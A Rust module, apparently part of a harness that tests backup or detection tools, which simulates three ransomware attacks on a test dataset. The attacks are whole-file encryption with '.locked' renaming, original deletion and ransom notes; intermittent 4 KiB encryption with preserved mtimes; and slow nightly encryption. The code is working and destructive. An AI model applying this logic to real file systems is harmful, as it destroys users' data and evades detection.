//! The three attacks of the targets, done to the dataset the way
//! current families do them.
#![allow(dead_code)]

use std::path::{Path, PathBuf};

use crate::dataset::{self, Rng};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Most files encrypted whole, written as `<name>.locked`, the original
    /// deleted, a ransom note in every directory.
    FullNewExtension,
    /// The first 4 KiB of every file encrypted in place; names, sizes and
    /// modification times kept (only ctime betrays it); no note.
    Intermittent4k,
    /// 5% of the files encrypted in place per night, names and mtimes
    /// kept, no note, while ordinary work goes on.
    Slow5PerNight,
}

impl Attack {
    pub fn name(self) -> &'static str {
        match self {
            Attack::FullNewExtension => "full encryption + .locked + notes",
            Attack::Intermittent4k => "intermittent: first 4 KiB, names kept",
            Attack::Slow5PerNight => "slow: 5% of files per night",
        }
    }

    /// Nights the attack lasts in the simulation.
    pub fn nights(self) -> u64 {
        match self {
            Attack::Slow5PerNight => 4,
            _ => 1,
        }
    }

    /// Does ordinary work continue beside it (the slow attack hides in it)?
    pub fn with_ordinary_work(self) -> bool {
        self == Attack::Slow5PerNight
    }
}

fn keep_mtime(p: &Path, m: &std::fs::Metadata) {
    let t = filetime::FileTime::from_last_modification_time(m);
    filetime::set_file_mtime(p, t).unwrap();
}

fn encrypt(rng: &mut Rng, data: &mut [u8]) {
    // A keystream XOR: looks exactly as random as AES-CTR output.
    let ks = rng.bytes(data.len());
    for (b, k) in data.iter_mut().zip(ks) {
        *b ^= k;
    }
}

/// Night `night` (0-based) of `attack`; returns the files it touched.
pub fn apply(root: &Path, seed: u64, attack: Attack, night: u64) -> usize {
    let mut rng = Rng::for_(seed, "attack", night);
    let files = dataset::files(root);
    match attack {
        Attack::FullNewExtension => {
            let victims = rng.sample(&files, files.len() * 9 / 10);
            let mut dirs: Vec<PathBuf> = Vec::new();
            for p in &victims {
                let mut data = std::fs::read(p).unwrap();
                encrypt(&mut rng, &mut data);
                let mut locked = p.as_os_str().to_owned();
                locked.push(".locked");
                std::fs::write(&locked, data).unwrap();
                std::fs::remove_file(p).unwrap();
                dirs.push(p.parent().unwrap().to_path_buf());
            }
            dirs.sort();
            dirs.dedup();
            for d in dirs {
                std::fs::write(
                    d.join("HOW_TO_DECRYPT.txt"),
                    b"Your files are encrypted. Contact us to get them back.\n",
                )
                .unwrap();
            }
            victims.len()
        }
        Attack::Intermittent4k => {
            let victims = rng.sample(&files, files.len() * 9 / 10);
            for p in &victims {
                let m = std::fs::metadata(p).unwrap();
                let mut data = std::fs::read(p).unwrap();
                let n = data.len().min(4096);
                encrypt(&mut rng, &mut data[..n]);
                std::fs::write(p, data).unwrap();
                keep_mtime(p, &m);
            }
            victims.len()
        }
        Attack::Slow5PerNight => {
            // A different 5% each night: the attacker keeps a list of what
            // it already encrypted (outside the backed-up tree).
            let done_list = root.with_extension("attacker-done");
            let done: std::collections::HashSet<PathBuf> = std::fs::read_to_string(&done_list)
                .unwrap_or_default()
                .lines()
                .map(PathBuf::from)
                .collect();
            let fresh: Vec<PathBuf> = files
                .iter()
                .filter(|p| !done.contains(*p))
                .cloned()
                .collect();
            let victims = rng.sample(&fresh, files.len().div_ceil(20));
            let mut list = std::fs::read_to_string(&done_list).unwrap_or_default();
            for v in &victims {
                list.push_str(&format!("{}\n", v.display()));
            }
            std::fs::write(&done_list, list).unwrap();
            for p in &victims {
                let m = std::fs::metadata(p).unwrap();
                let mut data = std::fs::read(p).unwrap();
                encrypt(&mut rng, &mut data);
                std::fs::write(p, data).unwrap();
                keep_mtime(p, &m);
            }
            victims.len()
        }
    }
}
